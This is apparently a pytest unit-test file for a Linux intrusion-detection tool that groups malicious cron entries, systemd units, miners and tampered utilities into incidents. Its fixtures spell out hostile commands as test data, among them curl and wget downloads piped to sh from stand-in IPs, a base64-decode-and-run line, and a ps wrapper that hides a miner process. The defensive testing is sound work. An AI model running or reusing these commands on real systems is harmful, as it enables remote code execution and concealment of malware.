"""What waits to be started belongs together by what it comes to, and says what it would start and when."""

from __future__ import annotations

import time
from typing import Any

import msgspec
import pytest
from tests.unit.snapshots import (
    autostarts,
    content_hit,
    cron,
    executable,
    followed,
    incident_of,
    judged,
    process,
    service,
    snapshot,
    timer,
    tool,
)

from davy.model.autostarts import Autostart, AutostartKind, Step
from davy.model.facts import Account, Executable
from davy.model.incidents import Role, Verdict
from davy.model.snapshot import Snapshot
from davy.model.tools import Tampering

FETCH = "curl -fsSL http://192.0.2.7/x.sh | sh"


def stranger(path: str, **changes: Any) -> Executable:
    return msgspec.structs.replace(executable(path, owner_package=None), **changes)


def named(found: Snapshot) -> list[set[str]]:
    return sorted(({one.subject for one in autostarts(each)} for each in judged(found).incidents), key=sorted)


def test_entries_that_fetch_from_one_address_are_one_incident_and_others_are_not() -> None:
    one, two = cron(FETCH), cron("wget -qO- http://192.0.2.7/y.sh | bash", user="ada")
    other = cron("curl -fsSL http://198.51.100.9/x.sh | sh", user="nobody")
    assert named(snapshot(one, two, other)) == [{one.subject, two.subject}, {other.subject}]


def test_a_third_entry_joins_two_that_had_nothing_in_common() -> None:
    one, two = cron(FETCH), cron("curl -fsSL http://198.51.100.9/x.sh | sh", user="ada")
    both = cron("(curl http://192.0.2.7/x.sh||wget -qO- http://198.51.100.9/x.sh)|sh", user="nobody")
    assert named(snapshot(one, two, both)) == [{one.subject, two.subject, both.subject}]


def test_entries_that_decode_one_text_are_one_incident() -> None:
    lines = [cron(f"echo QUFB{number} | base64 -d | sh", user=user) for number, user in enumerate(("root", "ada"))]
    texts = [followed(line, text="/dev/shm/.x/run", step=Step.DECODED) for line in lines]
    assert named(snapshot(*lines, *texts)) == [{line.subject for line in lines}]


def test_a_dormant_miners_file_is_an_actor_tied_to_its_unit() -> None:
    program = stranger("/usr/local/sbin/updated")
    unit = service("/usr/local/sbin/updated -q", unit="updated.service")
    wakes = timer("updated.timer", "updated.service")
    found = incident_of(
        snapshot(
            unit, wakes, followed(unit, program.path, program), content_hit("miner.xmrig", program.path, of=program)
        )
    )
    assert found.verdict is not Verdict.CLEAN
    assert {one.subject for one in autostarts(found)} == {unit.subject, wakes.subject}
    assert [actor.path for actor in found.actors if actor.role is Role.DROPPER] == [program.path]
    assert any(program.path in event.what for event in found.timeline)


def test_an_entry_that_shares_a_file_with_a_guilty_one_is_of_its_incident_only_if_something_speaks_against_it() -> None:
    guilty, hinted, honest = cron("/dev/shm/.x/run"), cron("/opt/a.sh", user="ada"), cron("/opt/b.sh", user="grace")
    lead = stranger("/dev/shm/.x/run")
    found = snapshot(
        guilty,
        hinted,
        honest,
        followed(hinted, "/opt/a", lead),
        followed(honest, "/opt/b", stranger("/opt/b")),
    )
    assert named(found) == [{guilty.subject, hinted.subject}]


def test_what_would_start_and_when_is_told_in_words() -> None:
    summary = incident_of(snapshot(cron(FETCH, schedule="@reboot", user="ada"))).summary
    assert f"does not run now: {FETCH} (cron, when the machine starts, as ada)" in summary


def test_entries_of_a_package_are_nobodys_accomplices() -> None:
    guilty = service("/dev/shm/.x/run", unit="x.service")
    vendors = Autostart(
        kind=AutostartKind.TIMER, path="/usr/lib/systemd/system/x.timer", command="", unit="x.timer",
        activates="x.service", owner_package="x", unmodified=True,
    )  # fmt: skip
    assert named(snapshot(guilty, vendors)) == [{guilty.subject}]


def test_hundreds_of_guilty_entries_are_put_together_in_little_time() -> None:
    lines = [cron(f"curl http://192.0.2.7/{number}.sh | sh", line=number) for number in range(1, 501)]
    start = time.process_time()
    assert len(judged(snapshot(*lines)).incidents) == 1
    assert time.process_time() - start < 5.0


MINER = process(200, "/var/tmp/.x/kdevtmpfsi", cores=1.0, user="ada")


def test_a_line_that_comes_to_a_running_miner_by_a_script_is_of_its_gang() -> None:
    line = cron("/home/ada/bin/keep.sh", user="ada")
    other = cron("/home/ada/bin/backup.sh", user="ada", line=2)
    program = stranger("/var/tmp/.x/kdevtmpfsi")
    found = incident_of(
        snapshot(
            MINER,
            line,
            other,
            followed(line, "/home/ada/bin/keep.sh", stranger("/home/ada/bin/keep.sh")),
            followed(line, program.path, program, step=Step.SCRIPT),
            followed(other, "/home/ada/bin/backup.sh", stranger("/home/ada/bin/backup.sh")),
        )
    )
    assert [(one.subject, one.detail) for one in autostarts(found)] == [
        (line.subject, f"starts {program.path} by a script")
    ]


@pytest.mark.parametrize("command", ["systemctl start box.service", "systemctl --quiet restart box"])
def test_a_line_that_has_systemd_start_a_guilty_unit_is_of_the_gang(command: str) -> None:
    unit, line = service("/var/tmp/.x/kdevtmpfsi", unit="box.service"), cron(command)
    honest = cron("systemctl restart nginx", line=2)
    found = incident_of(snapshot(MINER, unit, line, honest))
    assert {one.subject for one in autostarts(found)} == {unit.subject, line.subject}


@pytest.mark.parametrize("all_guilty", [True, False])
def test_a_mark_to_linger_is_guilty_only_if_all_of_its_users_units_are(all_guilty: bool) -> None:
    folder = "/home/ada/.config/systemd/user"
    unit = service("/var/tmp/.x/kdevtmpfsi", unit="box.service", user="ada", path=f"{folder}/box.service")
    own = service("/home/ada/bin/notes", unit="notes.service", user="ada", path=f"{folder}/notes.service")
    mark = Autostart(
        kind=AutostartKind.LINGER, path="/var/lib/systemd/linger/ada", command="ada", user="ada", schedule="boot"
    )
    facts = snapshot(MINER, unit, mark, *(() if all_guilty else (own,)))
    facts = msgspec.structs.replace(facts, accounts=(Account("ada", 1000, 1000, "/home/ada", "/bin/bash"),))
    found = {one.subject for one in autostarts(incident_of(facts))}
    assert found == ({unit.subject, mark.subject} if all_guilty else {unit.subject})


WRAPPER = tool("/usr/bin/ps", Tampering.WRAPPED, text='#!/bin/sh\n/usr/bin/.ps "$@" | grep -v kdevtmpfsi\n')


def test_a_wrapper_that_leaves_a_miner_out_is_its_hider_and_names_the_fix() -> None:
    found = incident_of(snapshot(MINER, WRAPPER))
    assert [(actor.path, actor.role) for actor in found.actors if actor.subject == WRAPPER.subject] == [
        ("/usr/bin/ps", Role.HIDER)
    ]
    assert any("apt-get install --reinstall procps" in actor.detail for actor in found.actors)


def test_a_tool_that_was_tampered_with_is_put_with_the_one_gang_there_is_and_with_none_of_several() -> None:
    renamed = tool("/usr/bin/curl", Tampering.RENAMED, renamed_to="/usr/bin/cur", package="curl")
    one, other = cron(FETCH), cron("curl -fsSL http://198.51.100.9/x.sh | sh", user="ada")
    found = incident_of(snapshot(one, renamed))
    assert {actor.subject for actor in found.actors} == {one.subject, renamed.subject}
    assert "; hidden by curl" in found.summary
    several = judged(snapshot(one, other, renamed)).incidents
    assert sorted(len(incident.actors) for incident in several) == [1, 1]


def test_a_wrapper_that_leaves_out_whom_nobody_sees_is_an_incident_of_its_own() -> None:
    found = incident_of(snapshot(tool("/usr/bin/ps", Tampering.WRAPPED, text="#!/bin/sh\n.ps | grep -v x1x2\n")))
    assert (found.verdict, found.summary) == (Verdict.SUSPECT, "Perhaps something hides: ps")


def test_tools_that_are_only_missing_or_shadowed_are_no_incident() -> None:
    missing = [tool(f"/usr/bin/{name}", Tampering.MISSING) for name in ("ps", "top", "w", "pgrep")]
    own = tool("/usr/local/bin/htop", Tampering.SHADOWED, package="htop")
    assert judged(snapshot(*missing, own, tool("/usr/bin/chattr", Tampering.LOCKED))).verdict is Verdict.CLEAN
